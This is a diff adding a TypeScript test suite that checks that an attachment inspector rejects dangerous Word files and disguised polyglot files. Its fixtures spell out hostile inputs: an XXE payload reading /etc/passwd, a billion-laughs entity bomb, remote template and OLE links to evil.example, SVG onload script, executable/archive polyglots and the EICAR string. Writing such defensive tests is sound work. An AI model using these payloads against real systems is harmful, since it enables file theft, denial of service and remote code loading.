@@ -1,0 +1,118 @@
+import { inspectFile } from '@server/modules/attachment/inspect-file';
+import { aDocx, aJpeg, aPdf, aZip } from '@tests/support/sample-files';
+import { strToU8, zipSync } from 'fflate';
+
+const inspect = (bytes: Buffer, name = '协议.docx') =>
+  inspectFile(async (offset, length) => bytes.subarray(offset, offset + length), bytes.length, name);
+
+const DOCUMENT = '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="x"><w:body/></w:document>';
+/** As Word writes it, deflated; parts are replaced or added. */
+const aWordFile = (parts: Record<string, string | Uint8Array> = {}): Buffer =>
+  Buffer.from(
+    zipSync(
+      Object.fromEntries(
+        Object.entries({
+          '[Content_Types].xml': '<Types xmlns="x"/>',
+          'word/document.xml': DOCUMENT,
+          ...parts,
+        }).map(([name, text]) => [name, typeof text === 'string' ? strToU8(text) : text]),
+      ),
+    ),
+  );
+const relation = (type: string, target: string): Buffer =>
+  aWordFile({
+    'word/_rels/document.xml.rels': `<Relationships xmlns="x"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+  });
+const XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>';
+const LAUGHS = `<!DOCTYPE x [<!ENTITY a "ha">${'<!ENTITY b "&a;&a;">'.repeat(9)}]><x>&b;</x>`;
+const utf16 = (text: string): Uint8Array => Buffer.from(`\ufeff${text}`, 'utf16le');
+const bigEndian = (text: string): Uint8Array => Buffer.from(utf16(text)).swap16();
+
+/** A part whose own header bears another name than the table of contents. */
+const twoNames = (): Buffer => {
+  const bytes = aDocx([{ name: 'word/safe.xml', content: '<x/>' }]);
+  bytes.write('word/evil.xml', bytes.indexOf('word/safe.xml'));
+  return bytes;
+};
+
+describe('a Word file [quality A56 A58 A59]', () => {
+  it.each<[string, Buffer]>([
+    ['asks for a file of the reader’s machine', aWordFile({ 'word/document.xml': XXE })],
+    ['asks so in a side part', aWordFile({ 'customXml/item1.xml': XXE })],
+    ['asks so in its types', aWordFile({ '[Content_Types].xml': XXE })],
+    ['asks so in UTF-16', aWordFile({ 'word/document.xml': utf16(XXE) })],
+    ['asks so in UTF-16 the other way round', aWordFile({ 'word/document.xml': bigEndian(XXE) })],
+    [
+      'asks so in an encoding of few',
+      aWordFile({ 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?><x/>' }),
+    ],
+    ['grows when it is read', aWordFile({ 'word/styles.xml': LAUGHS })],
+    [
+      'hides its beginning behind words',
+      aWordFile({ 'word/document.xml': `<!--${'甲乙丙'.repeat(200_000)}-->${XXE}` }),
+    ],
+    ['unpacks without end', aWordFile({ 'word/document.xml': `${DOCUMENT}${' '.repeat(900_000)}` })],
+    ['has a part twice', aDocx([{ name: 'WORD/document.xml', content: DOCUMENT }])],
+    ['has a part of two names', twoNames()],
+    ['is no XML inside', aWordFile({ 'word/document.xml': 'MZ' })],
+  ])('that %s is refused', async (_what, bytes) => {
+    expect(await inspect(bytes)).toEqual({ problem: 'damaged' });
+  });
+
+  it.each<[string, Buffer]>([
+    ['a template of another machine', relation('attachedTemplate', 'https://evil.example/t.dotm')],
+    ['a template of a share', relation('attachedTemplate', '\\\\evil.example\\t.dotm')],
+    ['a template of a share by address', relation('attachedTemplate', 'file://evil.example/t.dotm')],
+    ['an object of another machine', relation('oleObject', 'http://evil.example/x.html!')],
+    [
+      'a handler of help files',
+      relation('oleObject', 'mhtml:http://evil.example/x.html!x-usc:http://evil.example/x'),
+    ],
+    ['a frame of another machine', relation('frame', 'http://evil.example/')],
+    ['a macro', aWordFile({ 'word/vbaProject.bin': 'x' })],
+    ['a macro under a name of its own', aWordFile({ 'word/VBAPROJECT.BIN': 'x' })],
+    ['a control', aWordFile({ 'word/activeX/activeX1.xml': '<x/>' })],
+  ])('with %s is refused', async (_what, bytes) => {
+    expect(await inspect(bytes)).toEqual({ problem: 'type' });
+  });
+
+  it.each<[string, Buffer]>([
+    ['as Word writes it', aWordFile()],
+    ['in UTF-16', aWordFile({ 'word/document.xml': utf16('<?xml version="1.0" encoding="UTF-16"?><x/>') })],
+    ['stored, not packed', aDocx()],
+    ['with a link to click on', relation('hyperlink', 'https://example.com/')],
+    [
+      'with the template of the writer’s own machine',
+      relation('attachedTemplate', 'file:///C:\\Templates\\a.dotm'),
+    ],
+    ['with a formula', aWordFile({ 'word/embeddings/oleObject1.bin': 'x' })],
+    ['with a picture', aWordFile({ 'word/media/image1.png': new Uint8Array(5000) })],
+  ])('%s is taken', async (_what, bytes) => {
+    expect(await inspect(bytes)).toHaveProperty('type');
+  });
+});
+
+describe('a file of two kinds [quality A58]', () => {
+  const html = Buffer.from('<html><script>alert(1)</script></html>');
+  it.each<[string, string, Buffer]>([
+    ['a page before the PDF', '报告.pdf', Buffer.concat([html, aPdf()])],
+    ['a picture of vectors', '图.jpg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>')],
+    [
+      'an animation before the archive',
+      '图.jpg',
+      Buffer.concat([Buffer.from('GIF89a'), aZip([{ name: 'a' }])]),
+    ],
+    ['a picture before the archive', '图.jpg', Buffer.concat([aJpeg(), aZip([{ name: 'a.class' }])])],
+    ['a document before the program', '协议.docx', Buffer.concat([aWordFile(), Buffer.from('MZ')])],
+    ['a program before the document', '协议.docx', Buffer.concat([Buffer.from('MZ'), aWordFile()])],
+    [
+      'a test virus',
+      '报告.pdf',
+      Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'),
+    ],
+    ['a document called a picture', '图.jpg', aWordFile()],
+    ['a page called twice', '报告.pdf.html', aPdf()],
+  ])('%s is refused', async (_what, name, bytes) => {
+    expect(await inspect(bytes, name)).toHaveProperty('problem');
+  });
+});
